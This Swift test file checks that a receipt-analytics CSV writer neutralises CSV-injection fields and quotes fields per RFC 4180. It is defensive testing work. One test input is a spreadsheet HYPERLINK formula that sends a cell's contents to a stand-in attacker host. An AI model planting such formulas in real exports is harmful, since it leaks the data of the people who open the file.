import ReceiptAnalytics
import Testing

/// The one CSV writer of every export, on hostile fields: OWASP's CSV-injection rule (a field starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return is prefixed with `'` and quoted) and RFC 4180 quoting, judged on
/// bytes, not on Swift's `Character` (which takes "\r\n" as one).
@Suite struct CSVWriterTests {
    @Test(arguments: [
        ("=1+2", #""'=1+2""#),
        ("+1", #""'+1""#),
        ("-2+3", #""'-2+3""#),
        ("-", #""'-""#),
        ("@SUM(A1:A9)", #""'@SUM(A1:A9)""#),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("\u{0D}\u{0A}=1", "\"'\r\n=1\""),
        ("=\u{301}1", "\"'=\u{301}1\""),
        (
            #"=HYPERLINK("https://attacker.example/?t="&B2,"Verify")"#,
            #""'=HYPERLINK(""https://attacker.example/?t=""&B2,""Verify"")""#
        ),
        ("a\rb", "\"a\rb\""),
        ("a\nb", "\"a\nb\""),
        ("a\r\nb", "\"a\r\nb\""),
        ("a,b", #""a,b""#),
        ("1,=2", #""1,=2""#),
        (#"say "hi""#, #""say ""hi""""#),
        ("u-1", "u-1"),
        ("a=b", "a=b"),
        ("plain", "plain"),
        ("", ""),
    ])
    func hostileFieldsAreNeitherFormulasNorBrokenRows(_ field: String, _ written: String) {
        #expect(CSVWriter.field(field) == written)
    }

    @Test func aDocumentIsItsHeaderAndRowsOneLineEachWithAQuotedLineBreakKeptInItsField() {
        let text = CSVWriter.document(header: ["id", "n"], rows: [["a\nb", "1"], ["=x", "2"]])
        #expect(text == "id,n\n\"a\nb\",1\n\"'=x\",2")
    }
}
